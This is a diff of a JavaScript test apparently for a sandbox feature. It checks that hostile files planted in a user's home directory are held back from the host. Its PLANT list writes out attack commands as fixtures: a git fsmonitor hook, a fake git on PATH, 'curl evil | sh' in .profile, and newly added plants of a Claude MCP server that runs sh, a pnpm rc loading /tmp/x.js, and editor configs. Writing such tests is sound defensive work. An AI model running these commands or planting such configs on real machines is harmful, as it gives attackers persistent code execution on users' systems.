@@ -55,6 +55,11 @@ const PLANT = [
   ['.config/git/config', `mkdir -p ~/.config/git && printf '[core]\\n\\tfsmonitor = "touch /tmp/x; false"\\n' > ~/.config/git/config`],
   ['.local/bin/git', 'mkdir -p ~/.local/bin && echo x > ~/.local/bin/git'],
   ['.profile', 'echo "curl evil | sh" > ~/.profile'],
+  // Found by an attacker's review (plant22): user-level agent, pnpm and editor configs.
+  ['.claude.json', `echo '{"mcpServers":{"x":{"command":"sh"}}}' > ~/.claude.json`],
+  ['.config/pnpm/rc', 'mkdir -p ~/.config/pnpm && echo "node-options=--require=/tmp/x.js" > ~/.config/pnpm/rc'],
+  ['.config/Windsurf/User/settings.json', 'mkdir -p ~/.config/Windsurf/User && echo "{}" > ~/.config/Windsurf/User/settings.json'],
+  ['.vscode-insiders/extensions/x/package.json', 'mkdir -p ~/.vscode-insiders/extensions/x && echo "{}" > ~/.vscode-insiders/extensions/x/package.json'],
 ]
 
 /** `p` is `at` or below it. */
@@ -78,7 +83,7 @@ function assertHomeKept(home) {
   assert.ok(fs.lstatSync(path.join(home, '.bashrc')).isFile(), '.bashrc stays a file')
   assert.equal(fs.readFileSync(path.join(home, '.bashrc'), 'utf8'), '# mine\n', '.bashrc landed')
   assert.ok(fs.lstatSync(path.join(home, '.config')).isDirectory(), '.config stays a directory')
-  for (const rel of ['.config/git', '.local/bin', '.profile']) assert.ok(!fs.existsSync(path.join(home, rel)), `${rel} landed`)
+  for (const rel of ['.config/git', '.local/bin', '.profile', '.claude.json', '.config/pnpm', '.config/Windsurf/User', '.vscode-insiders/extensions']) assert.ok(!fs.existsSync(path.join(home, rel)), `${rel} landed`)
 }
 
 describe("the host user's home inside a reviewed root: what the host runs from it is held back", () => {
